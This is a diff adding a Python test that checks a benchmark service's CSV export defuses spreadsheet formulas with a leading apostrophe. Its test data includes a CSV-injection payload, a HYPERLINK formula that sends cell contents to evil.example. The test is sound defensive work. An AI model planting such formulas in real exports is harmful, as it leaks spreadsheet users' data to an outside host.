@@ -1,6 +1,8 @@
 from __future__ import annotations
 
 import copy
+import csv
+import io
 import json
 import uuid
 from datetime import datetime
@@ -162,6 +164,37 @@ def test_export_is_the_text_vigil_bench_writes(client: TestClient) -> None:
         assert r.headers["content-type"] == f"{media_type}; charset=utf-8"
         assert r.headers["content-disposition"] == f'attachment; filename="small-all-final.{fmt}"'
         assert r.text == EXPORTS[fmt].read_text()
+
+
+def test_export_csv_writes_would_be_formulas_as_text(client: TestClient) -> None:
+    """A cell a spreadsheet would run (=, +, -, @, tab, CR first) gets a leading ', plain
+    numbers excepted (OWASP, CSV injection); the Markdown shows the text as it is."""
+    owner = signup(client)
+    ws = create_workspace(client, owner)
+    base = f"/api/v1/workspaces/{ws['id']}/benchmarks"
+    doc = document()
+    m = doc["scenarios"][0]["measurements"][0]
+    m.update(
+        metric='=HYPERLINK("https://evil.example/?"&A1,"x")',
+        unit="@u",
+        value=-2.5,
+        repetitions=[-1.5, 2.0],
+        labels={},
+    )
+    created = client.post(base, json=doc, headers=owner.headers).json()
+    r = client.get(f"{base}/{created['id']}/export?format=csv", headers=owner.headers)
+    assert r.status_code == 200, r.text
+    row = list(csv.reader(io.StringIO(r.text)))[1]
+    assert row[4:10] == [
+        '\'=HYPERLINK("https://evil.example/?"&A1,"x")',
+        "-2.5",
+        "'@u",
+        "",
+        "",
+        "'-1.5 2.0",
+    ]
+    md = client.get(f"{base}/{created['id']}/export?format=md", headers=owner.headers).text
+    assert '| =HYPERLINK("https://evil.example/?"&A1,"x") |' in md
 
 
 def test_export_names_the_file_after_the_run_in_safe_characters(client: TestClient) -> None:
